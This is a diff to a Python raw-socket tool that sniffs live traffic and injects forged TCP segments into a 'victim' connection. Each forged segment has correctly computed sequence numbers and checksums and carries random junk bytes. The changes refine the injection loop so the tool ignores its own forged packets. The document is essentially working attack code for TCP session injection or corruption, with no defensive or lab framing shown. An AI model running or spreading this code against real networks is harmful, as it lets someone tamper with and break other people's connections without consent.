@@ -45,10 +45,13 @@ class Segment:
         found.length = struct.unpack_from("!H", packet, 2)[0] - head - tcp_head
         return found
 
+    @property
+    def next(self):
+        return (self.sequence + self.length) & 0xFFFFFFFF
+
     def follower(self, data):
         """The packet that would follow with `data`."""
-        sequence = (self.sequence + self.length) & 0xFFFFFFFF
-        head = self.ports + struct.pack("!II", sequence, self.acknowledged) + bytes([(20 + len(self.options)) // 4 << 4, PSH | ACK]) + self.window
+        head = self.ports + struct.pack("!II", self.next, self.acknowledged) + bytes([(20 + len(self.options)) // 4 << 4, PSH | ACK]) + self.window
         size = len(head) + 4 + len(self.options) + len(data)
         pseudo = self.source + self.target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, size)
         total = checksum(pseudo + head + b"\0\0\0\0" + self.options + data)
@@ -62,7 +65,7 @@ def main():
     watched = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
     watched.bind((device, ETH_P_ALL))
     sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    deadline, sent, victim, is_ended = time.monotonic() + seconds, 0, None, False
+    deadline, sent, victim, is_ended = time.monotonic() + seconds, set(), None, False
     while not is_ended and time.monotonic() < deadline:
         watched.settimeout(max(0.01, deadline - time.monotonic()))
         try:
@@ -78,11 +81,12 @@ def main():
             continue
         if segment.flags & (FIN | RST):
             is_ended = victim == segment.ports
-        elif segment.length > 0:
+        elif segment.length > 0 and segment.sequence not in sent:
+            # What is sent here is seen here, too.
             victim = segment.ports
+            sent.add(segment.next)
             sender.sendto(segment.follower(os.urandom(WRONG_BYTES)), (socket.inet_ntoa(address), 0))
-            sent += 1
-    print(f"{sent} {'ended' if is_ended else 'open'}")
+    print(f"{len(sent)} {'ended' if is_ended else 'open'}")
 
 
 if __name__ == "__main__":
